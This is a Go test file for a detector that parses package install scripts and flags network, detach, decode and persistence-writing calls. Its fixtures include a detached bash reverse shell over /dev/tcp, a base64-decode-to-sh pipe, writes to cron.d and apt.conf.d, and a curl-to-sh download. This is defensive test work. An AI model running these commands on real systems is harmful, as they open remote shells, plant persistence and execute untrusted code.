package scriptcalls

import (
	"testing"

	"github.com/pkgpersist/pkgpersist/extension/shellcmd"
)

func TestShell(t *testing.T) {
	cases := []struct {
		name, src string
		d         shellcmd.Dialect
		want      string
	}{
		{"panix postinst", "#!/bin/sh\nnohup setsid bash -c 'bash -i >& /dev/tcp/10.10.10.10/1337 0>&1' &\n", shellcmd.Sh,
			"2 [detach] nohup\n2 [detach] setsid (via nohup)\n2 bash (via nohup > setsid)\n2 [net][fetch] bash (via nohup > setsid > bash -c) <- /dev/tcp/10.10.10.10/1337"},
		{"debian postinst", "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n\tdeb-systemd-helper enable x.service >/dev/null || true\nfi\n", shellcmd.Sh,
			"4 deb-systemd-helper"},
		{"decode pipe", "echo aGk= | base64 -d | sh\n", shellcmd.Sh, "1 [decode] base64\n1 sh"},
		{"cron write", "cat > /etc/cron.d/x <<EOF\n* * * * * root /tmp/x\nEOF\ncp /tmp/h /etc/apt/apt.conf.d/99h\n", shellcmd.Sh,
			"1 cat\n1 [write] write > /etc/cron.d/x\n4 cp\n4 [write] write cp /etc/apt/apt.conf.d/99h"},
		{"curl pipe", "curl -s http://203.0.113.9/x | sh\n", shellcmd.Sh, "1 [net] curl\n1 [net][fetch] sh <- curl -s http://203.0.113.9/x"},
		{"syntax error", "echo ok\nif then\n", shellcmd.Sh, ""},
	}
	for _, c := range cases {
		got := Lines(Shell(c.src, c.d).Calls)
		if c.want != "" && got != c.want {
			t.Errorf("%s:\n got %q\nwant %q", c.name, got, c.want)
		}
		if c.name == "syntax error" && got == "" {
			t.Errorf("syntax error not reported")
		}
	}
}
